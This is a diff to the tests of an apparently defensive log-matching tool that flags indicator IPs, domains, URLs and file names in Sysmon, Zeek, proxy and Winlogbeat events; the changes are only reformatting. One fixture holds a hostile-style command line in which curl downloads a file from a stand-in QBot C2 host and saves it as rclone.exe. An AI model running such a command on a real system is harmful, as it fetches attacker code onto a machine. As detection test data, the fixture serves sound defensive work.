@@ -54,10 +54,14 @@ describe('matchEvent', () => {
   });
 
   it('reads Sysmon network and DNS events: addresses in networks, subdomains of indicator domains', () => {
-    expect(hits({ EventID: 3, DestinationIp: '198.51.100.20', DestinationHostname: 'x.relay.qbot.example', SourceIp: '10.1.1.1' })).toEqual([
-      'DestinationIp ipv4 198.51.100.20',
-      'DestinationHostname domain x.relay.qbot.example',
-    ]);
+    expect(
+      hits({
+        EventID: 3,
+        DestinationIp: '198.51.100.20',
+        DestinationHostname: 'x.relay.qbot.example',
+        SourceIp: '10.1.1.1',
+      }),
+    ).toEqual(['DestinationIp ipv4 198.51.100.20', 'DestinationHostname domain x.relay.qbot.example']);
     expect(hits({ EventID: 22, QueryName: 'C2.Qbot-MISP.example' })).toEqual(['QueryName domain c2.qbot-misp.example']);
   });
 
@@ -75,10 +79,9 @@ describe('matchEvent', () => {
   });
 
   it('joins Zeek host and uri into a URL, and reads proxy URLs with their host', () => {
-    expect(hits({ 'id.orig_h': '10.0.0.5', 'id.resp_h': '203.0.113.7', host: 'Payload.example', uri: '/dl/invoice.zip' })).toEqual([
-      'id.resp_h ipv4 203.0.113.7',
-      'uri url http://payload.example/dl/invoice.zip',
-    ]);
+    expect(
+      hits({ 'id.orig_h': '10.0.0.5', 'id.resp_h': '203.0.113.7', host: 'Payload.example', uri: '/dl/invoice.zip' }),
+    ).toEqual(['id.resp_h ipv4 203.0.113.7', 'uri url http://payload.example/dl/invoice.zip']);
     expect(hits({ 'c-uri': 'https://c2.qbot-misp.example/gate.php' })).toEqual([
       'c-uri url https://c2.qbot-misp.example/gate.php',
       'c-uri domain c2.qbot-misp.example',
@@ -86,7 +89,9 @@ describe('matchEvent', () => {
   });
 
   it('reads Winlogbeat event_data, ECS nested objects and evtx_dump events', () => {
-    expect(hits({ winlog: { event_data: { Image: 'C:\\Tools\\rclone.exe' } } })).toEqual(['winlog.event_data.Image file-name rclone.exe']);
+    expect(hits({ winlog: { event_data: { Image: 'C:\\Tools\\rclone.exe' } } })).toEqual([
+      'winlog.event_data.Image file-name rclone.exe',
+    ]);
     expect(hits({ destination: { ip: '10.66.1.1' } })).toEqual(['destination.ip ipv4 10.66.1.1']);
     const evtx = { Event: { System: { EventID: 11 }, EventData: { TargetFilename: 'C:\\Users\\Public\\Rclone.exe' } } };
     expect(hits(normaliseEvent(evtx)!)).toEqual(['TargetFilename file-name rclone.exe']);
@@ -99,7 +104,10 @@ describe('matchEvent', () => {
   });
 
   it('scans other strings only when asked', () => {
-    const event = { CommandLine: 'cmd /c curl https://c2.qbot-misp.example/gate.php -o C:\\Users\\Public\\rclone.exe', Message: 'peer 198.51.100.99 refused' };
+    const event = {
+      CommandLine: 'cmd /c curl https://c2.qbot-misp.example/gate.php -o C:\\Users\\Public\\rclone.exe',
+      Message: 'peer 198.51.100.99 refused',
+    };
     expect(hits(event)).toEqual([]);
     expect(hits(event, { scanAllStrings: true })).toEqual([
       'CommandLine url https://c2.qbot-misp.example/gate.php',
@@ -110,7 +118,12 @@ describe('matchEvent', () => {
   });
 
   it('reads fields added by the user, arrays included, without duplicate hits', () => {
-    const { table, problems } = parseIocFieldTable({ groups: [{ kind: 'ip', fields: ['peers'] }, { kind: 'file-path', fields: ['Image'] }] });
+    const { table, problems } = parseIocFieldTable({
+      groups: [
+        { kind: 'ip', fields: ['peers'] },
+        { kind: 'file-path', fields: ['Image'] },
+      ],
+    });
     expect(problems).toEqual([]);
     const fields = extendIocFields(DEFAULT_IOC_FIELDS, table!);
     expect(hits({ peers: ['192.0.2.1', '10.66.9.9'], Image: 'C:\\rclone.exe' }, { fields })).toEqual([
@@ -122,6 +135,8 @@ describe('matchEvent', () => {
   it('reports a bad field table with the path of the mistake', () => {
     const { table, problems } = parseIocFieldTable({ groups: [{ kind: 'hostname', fields: ['x'] }] }, 'fields.json');
     expect(table).toBeUndefined();
-    expect(problems).toEqual([{ file: 'fields.json', field: 'groups.0.kind', message: expect.stringContaining('Invalid option') }]);
+    expect(problems).toEqual([
+      { file: 'fields.json', field: 'groups.0.kind', message: expect.stringContaining('Invalid option') },
+    ]);
   });
 });
